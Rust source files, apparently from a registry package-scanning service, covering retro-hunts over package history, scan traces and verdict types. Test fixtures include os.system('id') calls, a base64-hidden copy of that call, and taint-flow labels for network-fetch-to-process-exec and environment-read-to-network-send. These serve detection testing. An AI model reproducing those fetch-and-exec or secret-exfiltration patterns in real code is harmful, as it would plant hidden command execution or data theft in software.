/// Hits for one changed rule across the package history.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetroRuleHits {
    /// Which engine the rule belongs to.
    pub engine: RuleEngine,
    /// The rule's name (YARA rule name / Semgrep rule id).
    pub rule: String,
    /// How many digests the index nominated for this rule.
    pub candidates: u64,
    /// Hex digests the rule matched (surface, Semgrep, or decoded
    /// layer), sorted.
    pub digests: Vec<String>,
}

/// Findings for one digest, restricted to the deployed delta rules.
/// Mirrors [`crate::Verdict`] semantics; `file` fields of layer
/// findings carry the hex digest (a retro-hunt sees content, not the
/// upload names that referenced it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetroVerdict {
    /// Hex content digest.
    pub digest: String,
    /// Matching YARA rule names (surface evaluation), sorted.
    pub yara: Vec<String>,
    /// Matching Semgrep rule ids, sorted.
    pub semgrep: Vec<String>,
    /// Decoded-layer findings, sorted.
    pub layers: Vec<LayerFinding>,
}

impl RetroVerdict {
    /// True when at least one delta rule fired on this digest.
    pub fn flagged(&self) -> bool {
        !self.yara.is_empty() || !self.semgrep.is_empty() || !self.layers.is_empty()
    }
}

/// The result of one retro-hunt (or of the exhaustive rescan oracle).
#[derive(Debug, Clone, Default)]
pub struct RetroReport {
    /// Per changed rule, in delta order: candidates and confirmed hits.
    pub rules: Vec<RetroRuleHits>,
    /// Flagged digests with their delta-restricted verdicts, sorted by
    /// digest.
    pub verdicts: Vec<RetroVerdict>,
    /// Digests resident in the index when the hunt ran.
    pub digests_indexed: u64,
    /// Total per-rule candidate nominations (a digest nominated by two
    /// rules counts twice).
    pub candidates: u64,
    /// Distinct digests confirm-scanned.
    pub confirm_scans: u64,
    /// Changed rules that fell back to full candidacy (no exhaustive
    /// atom set — regex-only or always-on rules). Short atoms no
    /// longer force fallback: they answer from exact 1/2-gram postings.
    pub full_candidacy_rules: u64,
}

impl RetroReport {
    /// True when `other` confirms the same per-rule hit sets and the
    /// same per-digest verdicts — candidate/scan *counts* are allowed
    /// to differ (that is the speedup), the findings are not.
    pub fn same_hits(&self, other: &RetroReport) -> bool {
        self.rules.len() == other.rules.len()
            && self
                .rules
                .iter()
                .zip(&other.rules)
                .all(|(a, b)| a.engine == b.engine && a.rule == b.rule && a.digests == b.digests)
            && self.verdicts == other.verdicts
    }

    /// Total confirmed (rule, digest) hit pairs.
    pub fn total_hits(&self) -> usize {
        self.rules.iter().map(|r| r.digests.len()).sum()
    }
}

/// One confirm-scan work item: a digest and, per engine, which subset
/// rules to evaluate on it.
#[derive(Debug)]
pub(crate) struct ConfirmTask {
    pub(crate) digest: DigestKey,
    pub(crate) yara_mask: Vec<bool>,
    pub(crate) semgrep_mask: Vec<bool>,
}

pub(crate) struct ConfirmOutcome {
    pub(crate) rules: Vec<RetroRuleHits>,
    pub(crate) verdicts: Vec<RetroVerdict>,
    pub(crate) scans: u64,
}

/// Confirm-scans each task's digest with the deployment's subset
/// rulesets, strictly gated per rule — a rule is evaluated on a digest
/// only if that digest was nominated for it, which keeps the
/// differential proof against the exhaustive oracle sharp.
pub(crate) fn confirm_scan(
    deployment: &RuleDeployment,
    tasks: &[ConfirmTask],
    mut fetch: impl FnMut(&DigestKey) -> Option<Arc<FileAnalysis>>,
    mut per_scan_ns: impl FnMut(u64),
) -> ConfirmOutcome {
    let scanner = deployment.yara.as_ref().map(Scanner::new);
    let matcher = deployment.semgrep.as_ref().map(MatchSet::new);
    let mut yara_scratch = ScanScratch::new();
    let mut semgrep_scratch = MatchScratch::new();
    let mut marks: Vec<bool> = Vec::new();
    let mut findings: Vec<Finding> = Vec::new();

    let changed = &deployment.delta.changed;
    let mut by_name: HashMap<(RuleEngine, &str), usize> = HashMap::new();
    for (ci, c) in changed.iter().enumerate() {
        by_name.insert((c.engine, c.name.as_str()), ci);
    }
    let mut rule_digests: Vec<BTreeSet<String>> = vec![BTreeSet::new(); changed.len()];
    let mut verdicts: Vec<RetroVerdict> = Vec::new();
    let mut scans = 0u64;

    for task in tasks {
        // A digest evicted between index query and confirm is simply
        // gone from the history — nothing to report on it.
        let Some(artifact) = fetch(&task.digest) else {
            continue;
        };
        let clock = std::time::Instant::now();
        scans += 1;
        let hex = digest::to_hex(&task.digest);
        let mut verdict = RetroVerdict {
            digest: hex.clone(),
            yara: Vec::new(),
            semgrep: Vec::new(),
            layers: Vec::new(),
        };
        if let Some(scanner) = &scanner {
            if task.yara_mask.iter().any(|&b| b) {
                let hits = scanner.collect_hits(&artifact.bytes);
                for m in scanner.eval_hits(
                    [(0usize, &hits)],
                    artifact.bytes.len() as i64,
                    |ri| task.yara_mask[ri],
                    &mut yara_scratch,
                ) {
                    verdict.yara.push(m.rule);
                }
                for layer in &artifact.layers {
                    let layer_hits = scanner.collect_hits(&layer.data);
                    if layer_hits.is_empty() {
                        continue;
                    }
                    scanner.mark_rules_with_hits(&layer_hits, &mut marks);
                    for m in scanner.eval_hits(
                        [(0usize, &layer_hits)],
                        layer.data.len() as i64,
                        |ri| task.yara_mask[ri] && marks[ri],
                        &mut yara_scratch,
                    ) {
                        verdict.layers.push(LayerFinding {
                            rule: m.rule,
                            file: hex.clone(),
                            encoding: layer.encoding,
                            depth: layer.depth,
                            line: layer.line,
                        });
                    }
                }
            }
        }
        if let (Some(matcher), Some(module)) = (&matcher, artifact.module.as_ref()) {
            if task.semgrep_mask.iter().any(|&b| b) {
                findings.clear();
                matcher.match_module_set_into(
                    module.get(),
                    |ri| task.semgrep_mask[ri],
                    &mut semgrep_scratch,
                    &mut findings,
                );
                let ids: BTreeSet<String> = findings.drain(..).map(|f| f.rule_id).collect();
                verdict.semgrep = ids.into_iter().collect();
            }
        }
        verdict.yara.sort_unstable();
        verdict.yara.dedup();
        verdict.layers.sort();
        verdict.layers.dedup();

        for name in &verdict.yara {
            if let Some(&ci) = by_name.get(&(RuleEngine::Yara, name.as_str())) {
                rule_digests[ci].insert(hex.clone());
            }
        }
        for finding in &verdict.layers {
            if let Some(&ci) = by_name.get(&(RuleEngine::Yara, finding.rule.as_str())) {
                rule_digests[ci].insert(hex.clone());
            }
        }
        for id in &verdict.semgrep {
            if let Some(&ci) = by_name.get(&(RuleEngine::Semgrep, id.as_str())) {
                rule_digests[ci].insert(hex.clone());
            }
        }
        per_scan_ns(clock.elapsed().as_nanos() as u64);
        if verdict.flagged() {
            verdicts.push(verdict);
        }
    }

    verdicts.sort_by(|a, b| a.digest.cmp(&b.digest));
    let rules = changed
        .iter()
        .zip(rule_digests)
        .map(|(c, digests)| RetroRuleHits {
            engine: c.engine,
            rule: c.name.clone(),
            candidates: 0,
            digests: digests.into_iter().collect(),
        })
        .collect();
    ConfirmOutcome {
        rules,
        verdicts,
        scans,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifact::ArtifactConfig;
    use crate::request::FileEntry;

    fn analyze(name: &str, content: &[u8]) -> FileAnalysis {
        let entry = FileEntry::new(name, content.to_vec());
        FileAnalysis::build(&entry, None, &ArtifactConfig::default())
    }

    fn digests(hits: &[(DigestKey, bool)]) -> Vec<DigestKey> {
        let mut v: Vec<DigestKey> = hits.iter().map(|(d, _)| *d).collect();
        v.sort_unstable();
        v
    }

    #[test]
    fn atom_occurrence_is_always_a_candidate() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"import os\nos.system('id')\n");
        let b = analyze("b.py", b"print('hello world')\n");
        index.insert_artifact(&a);
        index.insert_artifact(&b);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("long atom is queryable");
        assert_eq!(digests(&hits), digests(&[(a.digest, true)]));
        // Unrelated atom: no candidates at all, including never-seen grams.
        let miss = index
            .candidates_for_atom("socket.socket", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
    }

    #[test]
    fn queries_are_case_insensitive_like_the_prefilter() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"OS.System('id')\n");
        index.insert_artifact(&a);
        let hits = index
            .candidates_for_atom("os.SYSTEM", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(hits.len(), 1);
    }

    #[test]
    fn short_atoms_answer_from_exact_gram_postings() {
        let mut index = RetroIndex::new();
        let magic = analyze("a.bin", b"MZ\x90\x00");
        let other = analyze("b.py", b"print('hello')\n");
        index.insert_artifact(&magic);
        index.insert_artifact(&other);
        // 2-byte atom: exact, folded, and it prunes.
        let hits = index
            .candidates_for_atom("MZ", TermProvenance::Surface)
            .expect("2-byte atoms are queryable");
        assert_eq!(digests(&hits), digests(&[(magic.digest, false)]));
        let hits = index
            .candidates_for_atom("mz", TermProvenance::Surface)
            .expect("folded like every other query");
        assert_eq!(digests(&hits), digests(&[(magic.digest, false)]));
        // 1-byte atom present in exactly one artifact.
        let hits = index
            .candidates_for_atom("(", TermProvenance::Surface)
            .expect("1-byte atoms are queryable");
        assert_eq!(digests(&hits), digests(&[(other.digest, true)]));
        // Never-seen short grams nominate nothing rather than everyone.
        let miss = index
            .candidates_for_atom("q", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
        let miss = index
            .candidates_for_atom("qq", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
        // Only the empty atom is un-gateable.
        assert!(index
            .candidates_for_atom("", TermProvenance::Surface)
            .is_none());
    }

    #[test]
    fn short_gram_provenance_is_tracked_separately() {
        let payload = digest::base64::encode(b"MZ\x90\x00 decoded payload");
        let code = format!("blob = '{payload}'\n");
        let mut index = RetroIndex::new();
        let a = analyze("a.py", code.as_bytes());
        assert!(!a.layers.is_empty(), "payload must decode");
        index.insert_artifact(&a);
        // "MZ" only exists inside the decoded layer — unless the random
        // base64 text happens to contain "mz", surface must miss.
        if !code.to_ascii_lowercase().contains("mz") {
            let surface = index
                .candidates_for_atom("MZ", TermProvenance::Surface)
                .expect("queryable");
            assert!(surface.is_empty(), "atom only exists decoded");
        }
        let layer = index
            .candidates_for_atom("MZ", TermProvenance::Layer)
            .expect("queryable");
        assert_eq!(layer.len(), 1);
    }

    #[test]
    fn eviction_and_compaction_sweep_short_gram_postings() {
        let mut index = RetroIndex::new();
        let keep = analyze("keep.bin", b"PK\x03\x04 archive");
        index.insert_artifact(&keep);
        let mut evicted = Vec::new();
        for i in 0..100 {
            let a = analyze("x.bin", format!("MZ stub {i}").as_bytes());
            index.insert_artifact(&a);
            evicted.push(a.digest);
        }
        for d in &evicted {
            index.remove(d);
        }
        assert_eq!(index.digest_count(), 1);
        let hits = index
            .candidates_for_atom("MZ", TermProvenance::Surface)
            .expect("queryable");
        assert!(hits.is_empty(), "evicted digests must drop out of 2-grams");
        let hits = index
            .candidates_for_atom("PK", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, false)]));
    }

    #[test]
    fn layer_provenance_is_tracked_separately() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let code = format!("blob = '{payload}'\n");
        let mut index = RetroIndex::new();
        let a = analyze("a.py", code.as_bytes());
        assert!(!a.layers.is_empty(), "payload must decode");
        index.insert_artifact(&a);
        let surface = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert!(surface.is_empty(), "atom only exists decoded");
        let layer = index
            .candidates_for_atom("os.system", TermProvenance::Layer)
            .expect("queryable");
        assert_eq!(layer.len(), 1);
    }

    #[test]
    fn eviction_removes_candidacy_and_compaction_preserves_answers() {
        let mut index = RetroIndex::new();
        let keep = analyze("keep.py", b"keeper os.system marker\n");
        index.insert_artifact(&keep);
        let mut evicted = Vec::new();
        for i in 0..100 {
            let a = analyze("x.py", format!("os.system('{i}')\n").as_bytes());
            index.insert_artifact(&a);
            evicted.push(a.digest);
        }
        for d in &evicted {
            index.remove(d);
        }
        assert_eq!(index.digest_count(), 1);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, true)]));
        // Freed slots are reused without corrupting other postings.
        let reborn = analyze("y.py", b"socket.socket()\n");
        index.insert_artifact(&reborn);
        let hits = index
            .candidates_for_atom("socket.socket", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(reborn.digest, true)]));
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, true)]));
    }

    #[test]
    fn reinserting_a_known_digest_is_idempotent() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"os.system('id')\n");
        index.insert_artifact(&a);
        index.insert_artifact(&a);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(
            hits.len(),
            1,
            "duplicate insert must not duplicate postings"
        );
    }
}

//! Scan traces — the flight-recorder record that makes every verdict
//! explainable after the fact.
//!
//! Each completed scan (including verdict-cache hits) leaves a
//! [`ScanTrace`]: per-stage wall time, request size and digest, which
//! worker served it, and every rule that fired with its evidence
//! provenance. The hub keeps the last N traces in a bounded
//! [`telemetry::FlightRecorder`], so "where did this scan's 4ms go?"
//! and "why was this upload blocked?" are answerable without
//! re-running the scan.

use std::borrow::Cow;
use std::fmt;

use crate::verdict::Verdict;

/// Wall time spent in each pipeline stage of one request, in
/// nanoseconds. Stages are disjoint intervals — except `splice`, which
/// is nested inside `artifact` and therefore excluded from
/// [`StageNanos::total`] — so the total is at most the request's wall
/// time (the property suite pins this).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct StageNanos {
    /// Time the job sat in the bounded submission queue.
    pub queue: u64,
    /// Verdict-cache lookup on the submit path.
    pub cache: u64,
    /// Artifact get-or-build (lex, parse, string intern, layer decode,
    /// ruleset byte scan — or one cache lookup per file when warm).
    pub artifact: u64,
    /// Incremental diff-and-splice artifact builds. Nested **inside**
    /// `artifact` (a splice is one way a build resolves), so it is
    /// reported but never added to the disjoint-stage total.
    pub splice: u64,
    /// Literal prefilter routing over bytes and decoded layers.
    pub prefilter: u64,
    /// YARA condition evaluation over the surface hit sets.
    pub yara: u64,
    /// Decoded-layer YARA evaluation (per-layer condition checks; the
    /// decode itself is artifact work).
    pub layers: u64,
    /// Semgrep matchset walk over the cached modules.
    pub semgrep: u64,
    /// Taint-flow aggregation over the cached per-file summaries (the
    /// analysis itself is artifact work, done once per digest).
    pub dataflow: u64,
    /// Verdict assembly (sort, dedup, normalize).
    pub verdict: u64,
}

impl StageNanos {
    /// The stage names in pipeline order, paired with their values.
    pub fn named(&self) -> [(&'static str, u64); 10] {
        [
            ("queue", self.queue),
            ("cache", self.cache),
            ("artifact", self.artifact),
            ("splice", self.splice),
            ("prefilter", self.prefilter),
            ("yara", self.yara),
            ("layers", self.layers),
            ("semgrep", self.semgrep),
            ("dataflow", self.dataflow),
            ("verdict", self.verdict),
        ]
    }

    /// Sum over the disjoint stages (≤ the request's wall time).
    /// `splice` is excluded: its samples are already inside `artifact`.
    pub fn total(&self) -> u64 {
        self.named()
            .iter()
            .filter(|(name, _)| *name != "splice")
            .map(|(_, v)| v)
            .sum()
    }
}

/// Which engine produced a fired-rule record.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum FiredEngine {
    /// YARA over surface bytes.
    Yara,
    /// Semgrep over the parsed module.
    Semgrep,
    /// YARA over a decoded payload layer.
    YaraLayer,
    /// The behavioral taint engine (source→sink dataflow).
    Taint,
}

impl fmt::Display for FiredEngine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            FiredEngine::Yara => "yara",
            FiredEngine::Semgrep => "semgrep",
            FiredEngine::YaraLayer => "yara-layer",
            FiredEngine::Taint => "taint",
        })
    }
}

/// One rule that fired on this request, with its evidence provenance.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FiredRule {
    /// Rule name (YARA) or id (Semgrep).
    pub rule: String,
    /// Which engine matched.
    pub engine: FiredEngine,
    /// Where the evidence came from: surface bytes, the parsed module,
    /// or a decoded layer's file/encoding/depth/line. Borrowed for the
    /// two static cases — traces are built on the scan hot path, and
    /// dozens of rules can fire per request.
    pub provenance: Cow<'static, str>,
}

/// The after-the-fact record of one completed scan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanTrace {
    /// Completion sequence number (monotonic per hub).
    pub seq: u64,
    /// Worker that served the scan; `None` for verdict-cache hits,
    /// which are answered on the submit path.
    pub worker: Option<usize>,
    /// Hex content digest of the request — present whenever the hub
    /// computed one (the verdict cache is enabled); the hub never
    /// hashes requests solely for tracing.
    pub digest: Option<String>,
    /// File entries in the request.
    pub files: usize,
    /// Scan-view bytes ([`crate::ScanRequest::scan_len`]).
    pub bytes: u64,
    /// True when the verdict was served from the digest cache.
    pub from_cache: bool,
    /// True when at least one rule fired.
    pub flagged: bool,
    /// Per-stage wall time.
    pub stages: StageNanos,
    /// Submit-to-verdict wall time in nanoseconds (≥ the stage sum).
    pub wall_ns: u64,
    /// Every rule that fired, with evidence provenance.
    pub fired: Vec<FiredRule>,
}

/// Expands a verdict into fired-rule records with provenance.
pub(crate) fn fired_from_verdict(verdict: &Verdict) -> Vec<FiredRule> {
    let mut fired = Vec::with_capacity(verdict.total());
    for rule in &verdict.yara {
        fired.push(FiredRule {
            rule: rule.clone(),
            engine: FiredEngine::Yara,
            provenance: Cow::Borrowed("surface bytes"),
        });
    }
    for rule in &verdict.semgrep {
        fired.push(FiredRule {
            rule: rule.clone(),
            engine: FiredEngine::Semgrep,
            provenance: Cow::Borrowed("parsed module"),
        });
    }
    for layer in &verdict.layers {
        fired.push(FiredRule {
            rule: layer.rule.clone(),
            engine: FiredEngine::YaraLayer,
            provenance: Cow::Owned(format!(
                "{}:{} {:?} depth {}",
                layer.file, layer.line, layer.encoding, layer.depth
            )),
        });
    }
    for record in &verdict.flows {
        let line = record.flow.steps.first().map_or(0, |s| s.line);
        fired.push(FiredRule {
            rule: record.flow.label.clone(),
            engine: FiredEngine::Taint,
            provenance: Cow::Owned(format!(
                "{}:{} {} -> {} ({} steps)",
                record.file,
                line,
                record.flow.source,
                record.flow.sink,
                record.flow.steps.len()
            )),
        });
    }
    fired
}

impl fmt::Display for ScanTrace {
    /// The "where did this scan's time go" report.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "trace #{}: {} files, {} bytes, wall {}{}{}",
            self.seq,
            self.files,
            self.bytes,
            crate::stats::fmt_ns(self.wall_ns),
            match self.worker {
                Some(w) => format!(", worker {w}"),
                None => String::new(),
            },
            if self.from_cache { ", cached" } else { "" },
        )?;
        if let Some(digest) = &self.digest {
            writeln!(f, "  digest {digest}")?;
        }
        for (name, ns) in self.stages.named() {
            if ns == 0 {
                continue;
            }
            writeln!(
                f,
                "  {name:<9} {:>10}  ({:.1}%)",
                crate::stats::fmt_ns(ns),
                ns as f64 / self.wall_ns.max(1) as f64 * 100.0
            )?;
        }
        let overhead = self.wall_ns.saturating_sub(self.stages.total());
        if overhead > 0 {
            writeln!(
                f,
                "  {:<9} {:>10}  ({:.1}%)",
                "other",
                crate::stats::fmt_ns(overhead),
                overhead as f64 / self.wall_ns.max(1) as f64 * 100.0
            )?;
        }
        if self.fired.is_empty() {
            write!(f, "  verdict: PASS (no rules fired)")?;
        } else {
            write!(f, "  verdict: BLOCK")?;
            for rule in &self.fired {
                write!(
                    f,
                    "\n    {} [{}] <- {}",
                    rule.rule, rule.engine, rule.provenance
                )?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifact::LayerEncoding;
    use crate::verdict::{FlowRecord, LayerFinding};

    fn verdict() -> Verdict {
        Verdict {
            yara: vec!["sys".into()],
            semgrep: vec!["sys-call".into()],
            layers: vec![LayerFinding {
                rule: "c2".into(),
                file: "dropper.py".into(),
                encoding: LayerEncoding::Base64,
                depth: 1,
                line: 7,
            }],
            flows: vec![FlowRecord {
                file: "dropper.py".into(),
                flow: dataflow::FlowFinding {
                    label: "flow:net-fetch->proc-exec".into(),
                    source: "requests.get".into(),
                    sink: "os.system".into(),
                    steps: vec![dataflow::FlowStep {
                        line: 3,
                        note: "cmd = requests.get(...)".into(),
                    }],
                },
            }],
            from_cache: false,
        }
    }

    #[test]
    fn fired_rules_carry_engine_and_provenance() {
        let fired = fired_from_verdict(&verdict());
        assert_eq!(fired.len(), 4);
        assert_eq!(fired[0].engine, FiredEngine::Yara);
        assert_eq!(fired[1].engine, FiredEngine::Semgrep);
        assert_eq!(fired[2].engine, FiredEngine::YaraLayer);
        assert!(fired[2].provenance.contains("dropper.py:7"));
        assert!(fired[2].provenance.contains("depth 1"));
        assert_eq!(fired[3].engine, FiredEngine::Taint);
        assert_eq!(fired[3].rule, "flow:net-fetch->proc-exec");
        assert!(fired[3].provenance.contains("dropper.py:3"));
        assert!(fired[3].provenance.contains("requests.get -> os.system"));
    }

    #[test]
    fn stage_sum_and_names_line_up() {
        let stages = StageNanos {
            queue: 10,
            cache: 1,
            artifact: 500,
            splice: 450,
            prefilter: 20,
            yara: 100,
            layers: 30,
            semgrep: 200,
            dataflow: 40,
            verdict: 5,
        };
        // `splice` is nested inside `artifact` and must not inflate the
        // disjoint-stage sum.
        assert_eq!(stages.total(), 906);
        let names: Vec<&str> = stages.named().iter().map(|(n, _)| *n).collect();
        assert_eq!(
            names,
            [
                "queue",
                "cache",
                "artifact",
                "splice",
                "prefilter",
                "yara",
                "layers",
                "semgrep",
                "dataflow",
                "verdict"
            ]
        );
    }

    #[test]
    fn display_reports_stages_and_fired_rules() {
        let trace = ScanTrace {
            seq: 3,
            worker: Some(1),
            digest: Some("ab".repeat(32)),
            files: 2,
            bytes: 4096,
            from_cache: false,
            flagged: true,
            stages: StageNanos {
                queue: 1_000,
                artifact: 2_000_000,
                yara: 500_000,
                ..StageNanos::default()
            },
            wall_ns: 3_000_000,
            fired: fired_from_verdict(&verdict()),
        };
        let text = trace.to_string();
        assert!(text.contains("trace #3"));
        assert!(text.contains("artifact"));
        assert!(text.contains("BLOCK"));
        assert!(text.contains("c2 [yara-layer] <- dropper.py:7"));
        assert!(text.contains("other"), "unattributed wall time is shown");
    }
}

//! Scan verdicts emitted by the hub.

use crate::artifact::LayerEncoding;

/// A YARA rule that fired on a **decoded layer**, tagged with where the
/// layer came from so the verdict stays explainable ("rule `sys`
/// matched the base64 payload decoded from `payload.py:7`"). A rule
/// that also matched surface bytes appears in [`Verdict::yara`] as
/// well; the layer finding records the additional decoded evidence.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct LayerFinding {
    /// Matching rule name.
    pub rule: String,
    /// The file whose literal carried the payload.
    pub file: String,
    /// How the payload was recovered.
    pub encoding: LayerEncoding,
    /// Decode nesting depth (1 = surface literal).
    pub depth: u8,
    /// 1-based source line of the surface literal.
    pub line: u32,
}

/// A taint flow detected by the behavior engine, stamped with the file
/// it was found in. The embedded [`dataflow::FlowFinding`] carries the
/// full source→sink step chain with source lines.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct FlowRecord {
    /// The file whose module produced the flow.
    pub file: String,
    /// The flow itself: label, endpoints and step chain.
    pub flow: dataflow::FlowFinding,
}

/// The outcome of scanning one package.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Verdict {
    /// Names of YARA rules that fired on surface bytes, sorted and
    /// deduplicated.
    pub yara: Vec<String>,
    /// Ids of Semgrep rules that fired, sorted and deduplicated.
    pub semgrep: Vec<String>,
    /// YARA rules that fired inside decoded layers (possibly in
    /// addition to surface bytes), sorted and deduplicated. Empty when
    /// layer decoding is disabled.
    pub layers: Vec<LayerFinding>,
    /// Behavioral taint flows (source→sink chains), sorted and
    /// deduplicated. Empty when the dataflow stage is disabled.
    pub flows: Vec<FlowRecord>,
    /// True when the verdict was served from the digest cache.
    pub from_cache: bool,
}

impl Verdict {
    /// Total distinct findings (surface rules, layer-tagged hits and
    /// taint flows).
    pub fn total(&self) -> usize {
        self.yara.len() + self.semgrep.len() + self.layers.len() + self.flows.len()
    }

    /// True when at least one rule fired — a registry gatekeeper blocks
    /// the upload.
    pub fn flagged(&self) -> bool {
        self.total() > 0
    }

    /// The same verdict content, ignoring cache provenance.
    pub fn same_matches(&self, other: &Verdict) -> bool {
        self.yara == other.yara
            && self.semgrep == other.semgrep
            && self.layers == other.layers
            && self.flows == other.flows
    }

    /// Sorts and deduplicates every finding list. Workers call this
    /// before publishing, so verdicts are deterministic regardless of
    /// worker count, scan interleaving, or per-file evaluation order.
    pub(crate) fn normalize(&mut self) {
        self.yara.sort_unstable();
        self.yara.dedup();
        self.semgrep.sort_unstable();
        self.semgrep.dedup();
        self.layers.sort();
        self.layers.dedup();
        self.flows.sort();
        self.flows.dedup();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn totals_and_flags() {
        let clean = Verdict::default();
        assert_eq!(clean.total(), 0);
        assert!(!clean.flagged());
        let hit = Verdict {
            yara: vec!["r".into()],
            semgrep: vec!["s".into()],
            ..Verdict::default()
        };
        assert_eq!(hit.total(), 2);
        assert!(hit.flagged());
    }

    #[test]
    fn layer_findings_flag_a_package_on_their_own() {
        let v = Verdict {
            layers: vec![LayerFinding {
                rule: "sys".into(),
                file: "payload.py".into(),
                encoding: LayerEncoding::Base64,
                depth: 1,
                line: 7,
            }],
            ..Verdict::default()
        };
        assert_eq!(v.total(), 1);
        assert!(v.flagged());
    }

    #[test]
    fn same_matches_ignores_cache_flag() {
        let a = Verdict {
            yara: vec!["r".into()],
            ..Verdict::default()
        };
        let b = Verdict {
            from_cache: true,
            ..a.clone()
        };
        assert!(a.same_matches(&b));
        assert_ne!(a, b);
    }

    #[test]
    fn flow_records_flag_a_package_on_their_own() {
        let v = Verdict {
            flows: vec![flow_record("setup.py", "flow:net-fetch->proc-exec")],
            ..Verdict::default()
        };
        assert_eq!(v.total(), 1);
        assert!(v.flagged());
        assert!(!v.same_matches(&Verdict::default()));
    }

    #[test]
    fn normalize_sorts_and_dedupes_every_list() {
        let finding = |rule: &str| LayerFinding {
            rule: rule.into(),
            file: "f.py".into(),
            encoding: LayerEncoding::Hex,
            depth: 1,
            line: 1,
        };
        let mut v = Verdict {
            yara: vec!["z".into(), "a".into(), "z".into()],
            semgrep: vec!["s2".into(), "s1".into(), "s1".into()],
            layers: vec![finding("b"), finding("a"), finding("b")],
            flows: vec![
                flow_record("b.py", "flow:env-read->net-send"),
                flow_record("a.py", "flow:net-fetch->proc-exec"),
                flow_record("b.py", "flow:env-read->net-send"),
            ],
            from_cache: false,
        };
        v.normalize();
        assert_eq!(v.yara, vec!["a".to_owned(), "z".to_owned()]);
        assert_eq!(v.semgrep, vec!["s1".to_owned(), "s2".to_owned()]);
        assert_eq!(v.layers, vec![finding("a"), finding("b")]);
        assert_eq!(
            v.flows,
            vec![
                flow_record("a.py", "flow:net-fetch->proc-exec"),
                flow_record("b.py", "flow:env-read->net-send"),
            ]
        );
    }

    fn flow_record(file: &str, label: &str) -> FlowRecord {
        FlowRecord {
            file: file.into(),
            flow: dataflow::FlowFinding {
                label: label.into(),
                source: "src".into(),
                sink: "dst".into(),
                steps: Vec::new(),
            },
        }
    }
}

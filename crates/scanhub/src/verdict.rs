//! Scan verdicts emitted by the hub.

/// The outcome of scanning one package.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Verdict {
    /// Names of YARA rules that fired, in rule-declaration order.
    pub yara: Vec<String>,
    /// Ids of Semgrep rules that fired, sorted and deduplicated.
    pub semgrep: Vec<String>,
    /// True when the verdict was served from the digest cache.
    pub from_cache: bool,
}

impl Verdict {
    /// Total distinct rules matched.
    pub fn total(&self) -> usize {
        self.yara.len() + self.semgrep.len()
    }

    /// True when at least one rule fired — a registry gatekeeper blocks
    /// the upload.
    pub fn flagged(&self) -> bool {
        self.total() > 0
    }

    /// The same verdict content, ignoring cache provenance.
    pub fn same_matches(&self, other: &Verdict) -> bool {
        self.yara == other.yara && self.semgrep == other.semgrep
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn totals_and_flags() {
        let clean = Verdict::default();
        assert_eq!(clean.total(), 0);
        assert!(!clean.flagged());
        let hit = Verdict {
            yara: vec!["r".into()],
            semgrep: vec!["s".into()],
            from_cache: false,
        };
        assert_eq!(hit.total(), 2);
        assert!(hit.flagged());
    }

    #[test]
    fn same_matches_ignores_cache_flag() {
        let a = Verdict {
            yara: vec!["r".into()],
            semgrep: vec![],
            from_cache: false,
        };
        let b = Verdict {
            from_cache: true,
            ..a.clone()
        };
        assert!(a.same_matches(&b));
        assert_ne!(a, b);
    }
}

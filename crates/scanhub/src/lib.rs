//! `scanhub` — a registry-scale streaming scan service.
//!
//! The paper deploys LLM-generated YARA and Semgrep rules to screen OSS
//! package uploads; this crate turns the one-shot batch loop of the
//! original evaluation into a **service** shaped for heavy registry
//! traffic. Three mechanisms carry the load:
//!
//! 1. **Global literal prefilter** ([`PrefilterIndex`]) — one
//!    case-insensitive Aho–Corasick automaton over the distinct
//!    plain-text atoms of every compiled YARA rule (via
//!    [`yara_engine::literal_atoms`]) and every Semgrep pattern (via
//!    [`semgrep_engine::SemgrepRule::literal_atoms`]). A single automaton
//!    pass per upload routes the package to exactly the rules whose atoms
//!    occur; rules with an exhaustive atom set that did not hit are
//!    *provably* non-matching and skip condition evaluation, regex runs,
//!    and — when no Semgrep rule is routed — Python parsing altogether.
//!    Prefiltered scanning is byte-identical to exhaustive scanning (the
//!    property test in `tests/properties.rs` proves this on randomized
//!    corpora).
//! 2. **Sharded worker pool** ([`ScanHub`]) — a bounded submission queue
//!    provides backpressure toward the ingestion side; each worker owns
//!    reusable scanner state (the merged per-ruleset automatons are built
//!    once per worker, not per package).
